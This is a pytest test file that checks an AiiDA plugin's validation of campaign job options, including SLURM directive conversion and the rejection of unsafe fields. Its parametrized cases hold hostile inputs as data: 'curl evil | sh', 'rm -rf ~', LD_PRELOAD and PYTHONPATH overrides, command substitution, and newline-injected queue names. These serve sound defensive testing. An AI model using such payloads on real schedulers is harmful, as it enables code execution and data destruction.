"""Job options a campaign file may set: resources yes, anything that runs a command no; ``gpus`` → ``--gres``."""

import pathlib

import pytest

from aiida_alml.job_options import JobOptionError, campaign_metadata, campaign_options


def test_resources_pass_and_gpus_become_a_gres_directive():
    options = {'resources': {'num_machines': 1}, 'queue_name': 'gpu', 'max_wallclock_seconds': 600, 'gpus': 2,
               'environment_variables': {'OMP_NUM_THREADS': 4, 'CUDA_VISIBLE_DEVICES': '0,1'}}
    converted = campaign_options(options, 'train.train.metadata.options')
    assert converted['custom_scheduler_commands'] == '#SBATCH --gres=gpu:2'
    assert 'gpus' not in converted and converted['queue_name'] == 'gpu'
    assert converted['environment_variables'] == {'OMP_NUM_THREADS': '4', 'CUDA_VISIBLE_DEVICES': '0,1'}
    assert campaign_metadata({'label': 'x', 'options': {'gpus': 1}}, 'm')['options']['custom_scheduler_commands']


@pytest.mark.parametrize(('options', 'message'), [
    ({'prepend_text': 'curl evil | sh'}, r'`o.prepend_text` may not be set in a campaign file: shell commands belong'),
    ({'append_text': 'rm -rf ~'}, r'`o.append_text` may not be set'),
    ({'custom_scheduler_commands': '#SBATCH -A x'}, r'`o.custom_scheduler_commands` .* use `gpus: N`'),
    ({'mpirun_extra_params': ['; sh']}, r'`o.mpirun_extra_params` may not be set'),
    ({'parser_name': 'core.arithmetic.add'}, r'`o.parser_name` may not be set .* allowed here: account'),
    ({'environment_variables': {'PYTHONPATH': '/tmp/evil'}}, r'`o.environment_variables.PYTHONPATH` may not be set'),
    ({'environment_variables': {'LD_PRELOAD': '/tmp/x.so'}}, r'LD_PRELOAD` may not be set'),
    ({'environment_variables': {'OMP_NUM_THREADS': '$(id)'}}, r'OMP_NUM_THREADS`: \'\$\(id\)\' is not a plain'),
    ({'environment_variables': ['OMP_NUM_THREADS=1']}, r'`o.environment_variables`: expected a mapping'),
    ({'gpus': 0}, r'`o.gpus`: 0 is not a positive number'),
    ({'gpus': True}, r'`o.gpus`: True is not a positive number'),
    ('cpu', r'`o`: expected a mapping of job options'),
])
def test_options_that_run_or_load_code_are_refused(options, message):
    with pytest.raises(JobOptionError, match=message):
        campaign_options(options, 'o')


def test_metadata_keys_that_change_the_record_are_refused():
    with pytest.raises(JobOptionError, match=r'`m.store_provenance`: a campaign file may set only'):
        campaign_metadata({'store_provenance': False}, 'm')
    with pytest.raises(JobOptionError, match=r'`m.dry_run`'):
        campaign_metadata({'dry_run': True}, 'm')


def test_campaign_file_refuses_shell_options_in_any_namespace(tmp_path, aiida_localhost):
    """Through the campaign conversion: metadata.options of a stage and a labeller's options Dict."""
    import yaml

    from aiida_alml.campaign import CampaignError, inputs_from_config

    def load_campaign(path):  # conversion only: these partial files are not whole campaigns
        return inputs_from_config(yaml.safe_load(path.read_text()), path.parent)

    (tmp_path / 'c.yaml').write_text('train:\n  train:\n    metadata:\n      options: {prepend_text: "id"}\n')
    with pytest.raises(CampaignError, match=r'`train.train.metadata.options.prepend_text` may not be set'):
        load_campaign(tmp_path / 'c.yaml')
    (tmp_path / 'c.yaml').write_text('label:\n  ase:\n    options: {environment_variables: {PYTHONPATH: /x}}\n')
    with pytest.raises(CampaignError, match=r'`label.ase.options.environment_variables.PYTHONPATH` may not be set'):
        load_campaign(tmp_path / 'c.yaml')
    (tmp_path / 'c.yaml').write_text('explore:\n  md:\n    metadata:\n      options: {gpus: 1, queue_name: gpu}\n')
    inputs = load_campaign(tmp_path / 'c.yaml')
    assert inputs['explore']['md']['metadata']['options'] == {
        'custom_scheduler_commands': '#SBATCH --gres=gpu:1', 'queue_name': 'gpu'}


# ---------------------------------------------------------------------- what reaches the job script (dry runs)
HOSTILE_WORDS = ['debug\ntouch /tmp/alml-injected', 'debug\rtouch x', 'gpu; touch x', 'gpu && id', 'a b', '$(id)',
                 '`id`', "gpu'", 'gpu"', 'gpu#x', 'x|sh', '', 'a' * 200]


def _submit_script(computer, options: dict) -> str:
    """The ``_aiidasubmit.sh`` AiiDA writes for an alml.ase job with these options (a dry run: nothing is stored)."""
    from aiida import orm
    from aiida.engine import run_get_node
    from ase.build import bulk

    from aiida_alml.calculations.ase import AseLabelCalculation
    from aiida_alml.data import ConfigurationSet

    code = orm.InstalledCode(computer=computer, filepath_executable='/bin/true', default_calc_job_plugin='alml.ase')
    code.store()
    _, node = run_get_node(
        AseLabelCalculation, code=code, structures=ConfigurationSet.from_ase([bulk('Cu', cubic=True)]),
        calculator=orm.Dict({'name': 'emt'}),
        metadata={'dry_run': True, 'store_provenance': False, 'options': {'resources': {'num_machines': 1}, **options}},
    )
    return (pathlib.Path(node.dry_run_info['folder']) / '_aiidasubmit.sh').read_text()


@pytest.fixture
def computers(aiida_computer, tmp_path, monkeypatch):
    """Computers with the SLURM and the direct scheduler (local transport: dry runs connect to nothing)."""
    monkeypatch.chdir(tmp_path)  # a dry run writes its folder (submit_test/) into the working directory
    computers = {}
    for scheduler in ('core.slurm', 'core.direct'):
        computer = aiida_computer(label=f'dry-{scheduler}', scheduler_type=scheduler, transport_type='core.local')
        computer.set_default_mpiprocs_per_machine(1)
        computers[scheduler] = computer
    return computers


def test_aiida_writes_scheduler_words_unquoted(computers):
    """Why the check exists: AiiDA's SLURM plugin puts a newline in queue_name on a line of its own."""
    script = _submit_script(computers['core.slurm'], {'queue_name': 'debug\ntouch /tmp/alml-injected'})
    assert '\ntouch /tmp/alml-injected\n' in script


@pytest.mark.parametrize('key', ['queue_name', 'account', 'qos'])
@pytest.mark.parametrize('value', HOSTILE_WORDS, ids=range(len(HOSTILE_WORDS)))
def test_scheduler_words_that_could_end_a_line_or_word_are_refused(key, value):
    with pytest.raises(JobOptionError, match=rf'`o.{key}`: .* is not a plain scheduler name'):
        campaign_options({key: value}, 'o')


@pytest.mark.parametrize('priority', ['1\nid', '5; id', 'high', '1e3', True, '123456'])
def test_priority_must_be_a_whole_number(priority):
    with pytest.raises(JobOptionError, match=r'`o.priority`: .* is not a whole number'):
        campaign_options({'priority': priority}, 'o')


@pytest.mark.parametrize('scheduler', ['core.slurm', 'core.direct'])
def test_accepted_options_reach_the_job_script_as_single_plain_directives(computers, scheduler):
    """What passes the check is written as one directive each (SLURM) or not at all (direct), nothing else."""
    options = campaign_options({'queue_name': 'gpu-a100,long', 'account': 'proj_123', 'qos': 'normal.high',
                                'priority': -10, 'max_wallclock_seconds': 600, 'gpus': 2,
                                'environment_variables': {'OMP_NUM_THREADS': 4}}, 'o')
    script = _submit_script(computers[scheduler], options)
    plain = _submit_script(computers[scheduler], {})
    added = sorted(set(script.splitlines()) - set(plain.splitlines()))
    common = ['# ENVIRONMENT VARIABLES BEGIN ###', '# ENVIRONMENT VARIABLES END ###', '#SBATCH --gres=gpu:2',
              "export OMP_NUM_THREADS='4'"]  # the direct scheduler writes custom_scheduler_commands as given
    slurm = ['#SBATCH --partition=gpu-a100,long', '#SBATCH --account=proj_123', '#SBATCH --qos=normal.high',
             '#SBATCH --nice=-10', '#SBATCH --time=00:10:00']
    assert added == sorted(common + (slurm if scheduler == 'core.slurm' else []))


@pytest.mark.parametrize(('options', 'message'), [
    ({'gpus': 1000000}, r'`o.gpus`: 1000000 GPUs for one job; at most 64'),
    ({'resources': {'num_machines': -1}}, r'`o.resources.num_machines`: -1 is outside 1 to'),
    ({'max_wallclock_seconds': -5}, r'`o.max_wallclock_seconds`: -5 is outside 1 to'),
    ({'max_memory_kb': 0}, r'`o.max_memory_kb`: 0 is outside 1 to'),
    ({'resources': 4}, r'`o.resources`: expected a mapping'),
    ({'environment_variables': {'OMP_NUM_THREADS': '1\n'}}, r'OMP_NUM_THREADS`: .* is not a plain count'),
])
def test_counts_are_positive_and_bounded(options, message):
    with pytest.raises(JobOptionError, match=message):
        campaign_options(options, 'o')
